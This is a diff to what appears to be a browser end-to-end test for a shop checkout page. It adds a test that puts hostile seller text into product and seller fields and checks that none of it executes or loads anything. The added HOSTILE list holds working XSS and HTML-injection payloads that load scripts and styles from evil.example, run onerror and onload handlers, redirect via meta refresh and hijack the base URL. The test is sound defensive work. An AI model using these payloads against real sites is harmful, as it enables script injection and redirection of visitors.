@@ -1,5 +1,17 @@
 import { expect, test } from './app.ts'
-import { LANGUAGES, expectAccessible, expectNoSidewaysScroll, walkedOn } from './buyer.ts'
+import {
+  LANGUAGES,
+  chooseMethod,
+  expectAccessible,
+  expectNoSidewaysScroll,
+  fillPerson,
+  openCheckout,
+  payButton,
+  press,
+  walkedOn,
+} from './buyer.ts'
+import { putOnSale } from './shop.ts'
+import { pt } from './words.ts'
 import { countShifts } from './shifts.ts'
 import { SELLER_PAGE } from '#texts/seller-page.ts'
 import { localePath } from '#rules/locale.ts'
@@ -49,3 +61,47 @@ test('a page without them loads nothing of them', walkedOn('pt'), async ({ page 
   await expect(page.getByRole('timer')).toHaveText(/:/)
   expect(asked.filter((path) => path.includes('seller-page'))).toHaveLength(1)
 })
+
+/** Words that would run, lead away or load something where a page took them for more than words. */
+const HOSTILE = [
+  '"><img src=//evil.example/a onerror=hacked=1>',
+  '</script><script src=//evil.example/b></script>',
+  "'><svg/onload=hacked=1>",
+  '</style><style>@import "//evil.example/c"</style>',
+  '<iframe srcdoc="<script>parent.hacked=1</script>">',
+  '<meta http-equiv=refresh content="0;url=//evil.example/d">',
+  '<base href="//evil.example/">',
+  'javascript:hacked=1',
+]
+
+test(
+  'nothing of what a hostile seller writes runs, loads or leads away',
+  walkedOn('de'),
+  async ({ page }) => {
+    const word = (place: number): string => HOSTILE[place % HOSTILE.length] ?? ''
+    const product = await putOnSale(
+      {
+        name: word(0),
+        description: HOSTILE.join('\n'),
+        access: word(1),
+        author: word(2),
+        category: word(3),
+        images: [{ path: '/media/guia-de-poses.svg', alt: word(4) }],
+        warranty_days: 7,
+      },
+      { name: word(5), legal_name: word(6), legal_address: word(7) },
+    )
+    const asked: string[] = []
+    page.on('request', (request) => asked.push(request.url()))
+    page.on('dialog', (dialog) => asked.push(dialog.message()))
+    await openCheckout(page, 'pt', product.id)
+    await expect(page.getByText(word(0)).filter({ visible: true }).first()).toBeVisible()
+    await fillPerson(page, pt)
+    await chooseMethod(page, pt.payment.methods.PIX)
+    await press(payButton(page, pt.payment.button.pix))
+    await expect(page.getByRole('dialog', { name: pt.result.pix.title })).toBeVisible()
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
+    expect(asked.filter((address) => address.includes('evil.example'))).toEqual([])
+    expect(await page.locator('base, meta[http-equiv=refresh], iframe[srcdoc]').count()).toBe(0)
+  },
+)
